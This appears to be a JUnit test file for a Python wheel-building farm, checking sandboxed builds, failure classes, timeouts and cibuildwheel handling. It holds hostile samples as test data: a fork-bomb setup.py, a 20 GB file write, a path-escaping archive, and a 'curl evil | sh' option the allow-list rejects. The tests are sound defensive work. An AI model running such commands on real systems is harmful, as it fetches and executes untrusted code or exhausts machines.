package dev.wheelfarm.dispatch.local;

import dev.wheelfarm.builds.FailureClass;
import dev.wheelfarm.dispatch.DispatchProperties;
import dev.wheelfarm.dispatch.WorkerResult;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Duration;
import java.util.List;
import java.util.Locale;
import java.util.Map;

import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

import org.springframework.boot.context.properties.bind.Binder;
import org.springframework.boot.context.properties.source.MapConfigurationPropertySource;
import org.springframework.util.unit.DataSize;

import dev.wheelfarm.dispatch.local.LocalBuilderProperties.CibuildwheelMode;
import dev.wheelfarm.dispatch.WorkerResult.PlatformOutcome;
import dev.wheelfarm.dispatch.WorkerResult.Status;
import dev.wheelfarm.dispatch.WorkerResult.Strategy;
import dev.wheelfarm.dispatch.WorkerResult.Wheel;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * The worker run for real, through the local builder, on sdists generated here and served
 * from 127.0.0.1, in the bubblewrap sandbox unless a test says why not. The builds are
 * offline and without isolation (isolated builds through a package index are
 * {@link SandboxedBuildTest}'s), with Debian's build toolchain.
 */
class LocalWorkerRunnerTest {

	private static final LocalBuilderProperties OFFLINE = LocalBuilderProperties.defaults(Sdists.PYTHON)
		.withIndex(true, "")
		.withFetch(3, Duration.ofMillis(100));

	/** The sandbox of a farm without configuration. */
	private static final SandboxProperties SANDBOX = SandboxProperties.defaults();

	@TempDir
	Path temp;

	/** The sandbox the runner's builds run in; some tests choose their own. */
	private SandboxProperties sandbox = SANDBOX;

	/** The run timeout the runner is given; the time-limit test binds its own. */
	private Duration runTimeout = Duration.ofMinutes(5);

	private SdistServer server;

	@BeforeEach
	void startServer() throws IOException {
		this.server = new SdistServer();
	}

	@AfterEach
	void stopServer() {
		this.server.close();
	}

	@Test
	void pureSetuptoolsProjectGivesItsNoneAnyWheel() throws Exception {
		WorkerRun run = build(OFFLINE, "purepkg", "1.0", Sdists.PURE_SETUPTOOLS, "{}");

		WorkerResult result = run.result();
		assertThat(result.status()).isEqualTo(Status.SUCCESS);
		assertThat(result.strategy()).isEqualTo(Strategy.PURE);
		assertThat(result.failure()).isNull();
		assertThat(result.wheels()).singleElement().satisfies((wheel) -> {
			assertThat(wheel.filename()).isEqualTo("purepkg-1.0-py3-none-any.whl");
			assertThat(wheel.platform()).isEqualTo("any");
		});
		assertWheelsMatchFiles(run);
		assertThat(result.cibuildwheelPlan()).isEmpty();
		assertThat(run.exitCode()).isZero();
	}

	@Test
	void hatchlingProjectBuildsWithTheInstalledBackend() throws Exception {
		WorkerRun run = build(OFFLINE, "hatchpkg", "0.3", Sdists.HATCHLING, "{}");

		assertThat(run.result().status()).isEqualTo(Status.SUCCESS);
		assertThat(run.result().strategy()).isEqualTo(Strategy.PURE);
		// Older hatchling (Debian's) tags py2.py3, newer py3: both are pure.
		assertThat(run.result().wheels()).singleElement()
			.satisfies((wheel) -> assertThat(wheel.filename()).matches("hatchpkg-0\\.3-py(2\\.py)?3-none-any\\.whl"));
		assertWheelsMatchFiles(run);
	}

	@Test
	void aForkBombIsStoppedByTheProcessLimit() throws Exception {
		this.sandbox = SANDBOX.withLimits(48, DataSize.ofMegabytes(32), DataSize.ofMegabytes(64));

		// Forks until something stops it; its children wait, holding their process slots.
		WorkerRun run = build(OFFLINE, "forkbomb", "1.0", Map.of("setup.py", """
				import os, time
				while True:
				    if os.fork() == 0:
				        time.sleep(120)
				        os._exit(0)
				"""), "{}");

		assertThat(run.result().failure().failureClass()).isEqualTo(FailureClass.SANDBOX_LIMIT);
		assertThat(run.result().failure().message()).contains("process limit");
		assertThat(run.result().sandbox().limits()).containsEntry("processes", 48L);
	}

	@Test
	void aTwentyGigabyteWriteIsStoppedByTheFileSizeLimitEarly() throws Exception {
		this.sandbox = SANDBOX.withLimits(256, DataSize.ofMegabytes(32), DataSize.ofMegabytes(64));

		WorkerRun run = build(OFFLINE, "bigwrite", "1.0", Map.of("setup.py", """
				block = b"x" * (1024 * 1024)
				with open("big.bin", "wb") as out:
				    for _ in range(20 * 1024):
				        out.write(block)
				"""), "{}");

		assertThat(run.result().failure().failureClass()).isEqualTo(FailureClass.SANDBOX_LIMIT);
		assertThat(run.result().failure().message()).contains("file size limit");
		assertThat(run.result().failure().logExcerpt()).contains("File too large");
	}

	@Test
	void cExtensionKeepsTheNativeWheelWhereCibuildwheelCannotRunAndRecordsItsPlan() throws Exception {
		LocalBuilderProperties properties = OFFLINE.withCibuildwheel(CibuildwheelMode.AUTO, "cp311-* cp312-*",
				"*-musllinux_*");
		String options = "{\"platforms\": [\"%s\", \"macos-arm64\"], \"skip\": \"pp*\", \"cibuildwheel\": {\"test-command\": \"python -c 'import cext'\"}}"
			.formatted(nativePlatform());

		WorkerRun run = build(properties, "cext", "2.0", Sdists.C_EXTENSION, options);

		WorkerResult result = run.result();
		assertThat(result.status()).isEqualTo(Status.SUCCESS);
		assertThat(result.strategy()).isEqualTo(Strategy.NATIVE);
		assertThat(result.wheels()).singleElement().satisfies((wheel) -> {
			assertThat(wheel.filename()).matches("cext-2\\.0-cp3\\d+-cp3\\d+-linux_[a-z0-9_]+\\.whl");
			assertThat(wheel.platform()).isEqualTo(nativePlatform());
		});
		assertWheelsMatchFiles(run);
		assertThat(result.notes()).anySatisfy((note) -> assertThat(note).contains("kept the native platform wheel"));
		assertThat(result.notes()).anySatisfy(
				(note) -> assertThat(note).contains("cibuildwheel does not run in the local builder's sandbox"));
		assertThat(result.cibuildwheelPlan()).singleElement().satisfies((plan) -> {
			Path work = runner(properties).sandbox().workDirectory(this.temp.resolve("run"));
			assertThat(plan.platform()).isEqualTo(nativePlatform());
			assertThat(plan.command()).containsExactly(Sdists.PYTHON, "-m", "cibuildwheel", "--platform", "linux",
					"--output-dir", work.resolve("cibw-" + nativePlatform()).toString(),
					work.resolve("cext-2.0.tar.gz").toString());
			assertThat(plan.environment()).containsExactlyInAnyOrderEntriesOf(Map.of("CIBW_BUILD", "cp311-* cp312-*",
					"CIBW_SKIP", "*-musllinux_* pp*", "CIBW_ARCHS", nativePlatform().substring("linux-".length()),
					"CIBW_BUILD_VERBOSITY", "1", "CIBW_TEST_COMMAND", "python -c 'import cext'"));
		});
	}

	@Test
	void theNativeStrategySkipsThePureAttemptAndThePureOnlyStrategyKeepsNoNativeWheel() throws Exception {
		WorkerRun nativeRun = build(OFFLINE, "purepkg", "1.0", Sdists.PURE_SETUPTOOLS, "{\"strategy\": \"native\"}");
		assertThat(nativeRun.result().status()).isEqualTo(Status.SUCCESS);
		assertThat(nativeRun.result().wheels()).extracting(WorkerResult.Wheel::filename)
			.containsExactly("purepkg-1.0-py3-none-any.whl");
		assertThat(nativeRun.result().notes())
			.anySatisfy((note) -> assertThat(note).contains("pure attempt was skipped"));
		assertThat(Files.readString(nativeRun.outputDirectory().resolve("build.log")))
			.as("python -m build ran once, as the platform build")
			.containsOnlyOnce(" -m build --wheel");

		WorkerRun pureOnly = build(OFFLINE, "cext", "2.0", Sdists.C_EXTENSION, "{\"strategy\": \"pure\"}");
		assertThat(pureOnly.result().status()).isEqualTo(Status.FAILURE);
		assertThat(pureOnly.result().failure().failureClass()).isEqualTo(FailureClass.CONFIG_ERROR);
		assertThat(pureOnly.result().wheels()).isEmpty();
		assertThat(pureOnly.result().cibuildwheelPlan()).as("no platform build was even planned").isEmpty();
	}

	@Test
	void brokenSetupPyFailsWithTheTracebackInTheExcerpt() throws Exception {
		WorkerRun run = build(OFFLINE, "broken", "0.1", Sdists.BROKEN_SETUP, "{}");

		WorkerResult result = run.result();
		assertThat(result.status()).isEqualTo(Status.FAILURE);
		assertThat(result.wheels()).isEmpty();
		assertThat(result.failure().failureClass()).isEqualTo(FailureClass.UNKNOWN);
		assertThat(result.failure().logExcerpt()).contains("this release's setup.py is broken");
		// A Python error in setup.py says nothing about native code: no platform build.
		assertThat(result.cibuildwheelPlan()).isEmpty();
		assertThat(run.exitCode()).isEqualTo(1);
	}

	@Test
	void missingHeaderIsAMissingSystemDependencyAfterConsideringCibuildwheel() throws Exception {
		WorkerRun run = build(OFFLINE, "needsheader", "1.1", Sdists.MISSING_HEADER, "{}");

		WorkerResult result = run.result();
		assertThat(result.status()).isEqualTo(Status.FAILURE);
		assertThat(result.failure().failureClass()).isEqualTo(FailureClass.MISSING_SYSTEM_DEPENDENCY);
		assertThat(result.failure().logExcerpt()).contains("wheelfarm_no_such_library.h: No such file or directory");
		assertThat(result.cibuildwheelPlan()).hasSize(1);
		assertThat(result.notes())
			.anySatisfy((note) -> assertThat(note).contains("a platform build may still succeed"));
	}

	@Test
	void wrongSha256IsAnSdistMismatchAndNothingIsBuilt() throws Exception {
		byte[] sdist = Sdists.sdist(this.temp, "purepkg", "1.0", Sdists.PURE_SETUPTOOLS);
		WorkerInvocation invocation = new WorkerInvocation("req-sha", "purepkg", "1.0",
				this.server.publish("purepkg-1.0.tar.gz", sdist, 0), "0".repeat(64), "{}");

		WorkerRun run = run(OFFLINE, invocation);

		WorkerResult result = run.result();
		assertThat(result.status()).isEqualTo(Status.FAILURE);
		assertThat(result.failure().failureClass()).isEqualTo(FailureClass.SDIST_MISMATCH);
		assertThat(result.failure().failureClass().isTransient()).isFalse();
		assertThat(result.failure().message()).contains(Sdists.sha256(sdist));
		assertThat(result.sdist()).isNull();
		assertThat(Files.readString(run.buildLog())).doesNotContain("-m build");
	}

	@Test
	void aFileNotYetOnTheCdnIsRetriedUntilItAppears() throws Exception {
		byte[] sdist = Sdists.sdist(this.temp, "purepkg", "1.0", Sdists.PURE_SETUPTOOLS);
		WorkerInvocation invocation = new WorkerInvocation("req-404", "purepkg", "1.0",
				this.server.publish("purepkg-1.0.tar.gz", sdist, 2), Sdists.sha256(sdist), "{}");

		WorkerRun run = run(OFFLINE, invocation);

		assertThat(run.result().status()).isEqualTo(Status.SUCCESS);
		assertThat(run.result().sdist().sha256()).isEqualTo(Sdists.sha256(sdist));
		assertThat(this.server.requestCount("purepkg-1.0.tar.gz")).isEqualTo(3);
	}

	@Test
	void aFileThatNeverAppearsIsATransientNetworkFailure() throws Exception {
		WorkerInvocation invocation = new WorkerInvocation("req-gone", "purepkg", "1.0",
				this.server.url("purepkg-1.0.tar.gz"), "a".repeat(64), "{}");

		WorkerRun run = run(OFFLINE, invocation);

		assertThat(run.result().failure().failureClass()).isEqualTo(FailureClass.NETWORK);
		assertThat(run.result().failure().failureClass().isTransient()).isTrue();
		assertThat(this.server.requestCount("purepkg-1.0.tar.gz")).isEqualTo(4);
	}

	@Test
	void anArchiveMemberOutsideTheSdistIsRefused() throws Exception {
		byte[] sdist = Sdists.escapingSdist(this.temp);
		WorkerInvocation invocation = new WorkerInvocation("req-evil", "evil", "1.0",
				this.server.publish("evil-1.0.tar.gz", sdist, 0), Sdists.sha256(sdist), "{}");

		WorkerRun run = run(OFFLINE, invocation);

		assertThat(run.result().failure().failureClass()).isEqualTo(FailureClass.SDIST_MISMATCH);
		assertThat(run.result().failure().message()).contains("escapes the archive");
		assertThat(this.temp.resolve("run/wheelfarm-escaped.txt")).doesNotExist();
		assertThat(this.temp.resolve("run/work/wheelfarm-escaped.txt")).doesNotExist();
	}

	@Test
	void theCibuildwheelCheckSaysWhyThisMachinesBuildsRunWithoutIt() {
		assertThat(runner(OFFLINE).cibuildwheelUnavailable(this.temp.resolve("sandboxed")))
			.contains("cibuildwheel does not run in the local builder's sandbox (its container engine is outside it)");
		// Unsandboxed, this machine's interpreter has no cibuildwheel (the worker's own
		// import test).
		this.sandbox = SANDBOX.withMode(SandboxProperties.Mode.UNSANDBOXED, "/usr/bin/bwrap");
		assertThat(runner(OFFLINE).cibuildwheelUnavailable(this.temp.resolve("auto")))
			.contains("cibuildwheel is not installed for " + Sdists.PYTHON);
		assertThat(runner(OFFLINE.withCibuildwheel(CibuildwheelMode.NEVER, "cp3*", ""))
			.cibuildwheelUnavailable(this.temp.resolve("never")))
			.contains("cibuildwheel disabled (--cibuildwheel never)");
		assertThat(runner(OFFLINE.withCibuildwheel(CibuildwheelMode.PLAN, "cp3*", ""))
			.cibuildwheelUnavailable(this.temp.resolve("plan")))
			.contains("cibuildwheel planned only (--cibuildwheel plan)");
	}

	@Test
	void optionsOutsideTheAllowListAreAConfigError() throws Exception {
		WorkerRun run = build(OFFLINE, "purepkg", "1.0", Sdists.PURE_SETUPTOOLS,
				"{\"before-all\": \"curl evil | sh\"}");

		assertThat(run.result().failure().failureClass()).isEqualTo(FailureClass.CONFIG_ERROR);
		assertThat(run.result().failure().message()).contains("before-all");
		assertThat(run.result().wheels()).isEmpty();
	}

	@Test
	void aBuildOverTheRunTimeoutIsKilledWithItsChildren() throws Exception {
		String marker = "600." + ProcessHandle.current().pid();
		// The one run timeout of every engine, bound as the farm binds it.
		this.runTimeout = new Binder(new MapConfigurationPropertySource(Map.of("wheelfarm.dispatch.run-timeout", "8s")))
			.bindOrCreate("wheelfarm.dispatch", DispatchProperties.class)
			.runTimeout();

		WorkerRun run = build(OFFLINE, "hangs", "1.0", Sdists.sleeping(marker), "{}");

		assertThat(run.exitCode()).isEqualTo(-1);
		assertThat(run.result().failure().failureClass()).isEqualTo(FailureClass.TIMEOUT);
		assertThat(run.result().failure().message()).contains("PT8S").contains("wheelfarm.dispatch.run-timeout");
		assertThat(run.duration()).isBetween(Duration.ofSeconds(8), Duration.ofSeconds(60));
		assertThat(Files.readString(run.buildLog())).as("the build got to its sleep").contains("sleeping " + marker);
		// The runner returns only once the killed tree is gone, sandbox and all.
		assertThat(ProcessHandle.allProcesses()
			.filter((process) -> process.info().arguments().map((args) -> List.of(args).contains(marker)).orElse(false))
			.filter(ProcessHandle::isAlive)).isEmpty();
		assertThat(runner(OFFLINE).sandbox().workDirectory(this.temp.resolve("run"))).doesNotExist();
	}

	@ParameterizedTest(name = "cibuildwheel exit {0} -> {1}")
	@CsvSource({ "0, SUCCESS, built, ", "3, NOTHING_TO_BUILD, nothing-to-build, ", "5, SUCCESS, pure-wheel, ",
			"1, FAILURE, failed, MISSING_SYSTEM_DEPENDENCY", "2, FAILURE, failed, CONFIG_ERROR" })
	void cibuildwheelExitCodesMapToOutcomes(int exit, Status status, String outcome, FailureClass failureClass)
			throws Exception {
		// cibuildwheel does not run in the sandbox (it drives a container engine, which
		// is
		// outside it): this is the unsandboxed farm's path.
		this.sandbox = SANDBOX.withMode(SandboxProperties.Mode.UNSANDBOXED, "/usr/bin/bwrap");
		FakeCibuildwheel fake = FakeCibuildwheel.install(this.temp.resolve("fake"), exit);
		LocalBuilderProperties properties = LocalBuilderProperties.defaults(fake.python().toString())
			.withIndex(true, "")
			.withFetch(0, Duration.ofMillis(100))
			.withCibuildwheel(CibuildwheelMode.AUTO, "cp311-*", "");

		WorkerRun run = build(properties, "cext", "2.0", Sdists.C_EXTENSION, "{\"skip\": \"*-musllinux_*\"}");

		WorkerResult result = run.result();
		assertThat(result.status()).isEqualTo(status);
		assertThat(result.strategy()).isEqualTo(Strategy.CIBUILDWHEEL);
		PlatformOutcome platform = result.platforms().get(result.platforms().size() - 1);
		assertThat(platform.tool()).isEqualTo("cibuildwheel");
		assertThat(platform.outcome()).isEqualTo(outcome);
		assertThat(platform.failureClass()).isEqualTo(failureClass);
		if (failureClass != null) {
			assertThat(result.failure().failureClass()).isEqualTo(failureClass);
		}
		if (exit == 0) {
			assertThat(result.wheels()).extracting(Wheel::filename)
				.containsExactly("cext-2.0-cp311-cp311-manylinux_2_17_x86_64.manylinux2014_x86_64.whl");
			assertWheelsMatchFiles(run);
		}
		// What cibuildwheel really received: only the farm's and the maintainer's
		// options,
		// never a CIBW_ variable inherited from the machine.
		JsonNode call = JsonMapper.shared().readTree(fake.calls().toFile());
		assertThat(call.get("argv").get(0).asString()).isEqualTo("--platform");
		assertThat(call.get("env").propertyNames()).containsExactlyInAnyOrder("CIBW_BUILD", "CIBW_SKIP", "CIBW_ARCHS",
				"CIBW_BUILD_VERBOSITY");
		assertThat(call.get("env").get("CIBW_SKIP").asString()).isEqualTo("*-musllinux_*");
		assertThat(call.get("pip_config_file").asString()).isEqualTo("/dev/null");
	}

	private WorkerRun build(LocalBuilderProperties properties, String name, String version, Map<String, String> files,
			String options) throws Exception {
		byte[] sdist = Sdists.sdist(this.temp, name, version, files);
		String filename = name + "-" + version + ".tar.gz";
		WorkerInvocation invocation = new WorkerInvocation("req-" + name, name, version,
				this.server.publish(filename, sdist, 0), Sdists.sha256(sdist), options);
		WorkerRun run = run(properties, invocation);
		if (run.result().sdist() != null) {
			assertThat(run.result().sdist().sha256()).isEqualTo(Sdists.sha256(sdist));
		}
		return run;
	}

	private WorkerRun run(LocalBuilderProperties properties, WorkerInvocation invocation) {
		WorkerRun run = runner(properties).run(invocation, this.temp.resolve("run"));
		Path resultJson = run.outputDirectory().resolve("result.json");
		if (run.exitCode() != -1) {
			assertThat(resultJson).exists();
			assertThat(ResultSchema.errors(resultJson)).as("result.json against result.schema.json").isEmpty();
		}
		return run;
	}

	private LocalWorkerRunner runner(LocalBuilderProperties properties) {
		return new LocalWorkerRunner(properties, this.runTimeout,
				new LocalSandbox(this.sandbox, List.of(this.temp.resolve("farm-data"))),
				BuildIndex.fixed("http://127.0.0.1:9/cache/simple/"));
	}

	private static void assertWheelsMatchFiles(WorkerRun run) throws IOException {
		for (Wheel wheel : run.result().wheels()) {
			Path file = run.wheelsDirectory().resolve(wheel.filename());
			assertThat(file).exists();
			assertThat(Files.size(file)).isEqualTo(wheel.size());
			assertThat(Sdists.sha256(file)).isEqualTo(wheel.sha256());
		}
	}

	static String nativePlatform() {
		String arch = System.getProperty("os.arch").toLowerCase(Locale.ROOT);
		return "linux-" + (arch.equals("amd64") || arch.equals("x86_64") ? "x86_64" : "aarch64");
	}

	/**
	 * A stand-in for cibuildwheel and a container engine, so the worker's handling of
	 * cibuildwheel's exit codes runs for real on a machine without Docker. It records the
	 * arguments and CIBW_* environment it was given.
	 */
	record FakeCibuildwheel(Path python, Path calls) {

		static FakeCibuildwheel install(Path dir, int exit) throws IOException {
			Path pkg = Files.createDirectories(dir.resolve("site/cibuildwheel"));
			Files.writeString(pkg.resolve("__init__.py"), "");
			Path calls = dir.resolve("calls.json");
			Files.writeString(pkg.resolve("__main__.py"),
					"""
							import json, os, sys
							argv = sys.argv[1:]
							env = {k: v for k, v in os.environ.items() if k.startswith("CIBW_")}
							with open(%s, "w") as handle:
							    json.dump({"argv": argv, "env": env, "pip_config_file": os.environ.get("PIP_CONFIG_FILE")}, handle)
							out = argv[argv.index("--output-dir") + 1]
							os.makedirs(out, exist_ok=True)
							code = %d
							if code == 0:
							    name = "cext-2.0-cp311-cp311-manylinux_2_17_x86_64.manylinux2014_x86_64.whl"
							    open(os.path.join(out, name), "wb").write(b"PK-fake-platform-wheel")
							elif code == 5:
							    open(os.path.join(out, "cext-2.0-py3-none-any.whl"), "wb").write(b"PK-fake-pure-wheel")
							elif code == 1:
							    print("cext.c:2:10: fatal error: libfoo.h: No such file or directory")
							sys.exit(code)
							"""
						.formatted("'" + calls + "'", exit));
			Path bin = Files.createDirectories(dir.resolve("bin"));
			Path docker = bin.resolve("docker");
			Files.writeString(docker, "#!/bin/sh\nexit 0\n");
			Path python = dir.resolve("python");
			// The worker itself starts with a CIBW_ variable from "the machine"; it must
			// not
			// reach cibuildwheel (which the worker starts as `python -m cibuildwheel`).
			Files.writeString(python, """
					#!/bin/sh
					if [ "$1" != "-m" ]; then export CIBW_BEFORE_ALL='echo inherited'; fi
					PYTHONPATH='%s' PATH='%s':"$PATH" exec %s "$@"
					""".formatted(dir.resolve("site"), bin, Sdists.PYTHON));
			for (Path script : List.of(docker, python)) {
				Files.setPosixFilePermissions(script, PosixFilePermissions.fromString("rwxr-xr-x"));
			}
			return new FakeCibuildwheel(python, calls);
		}

	}

}
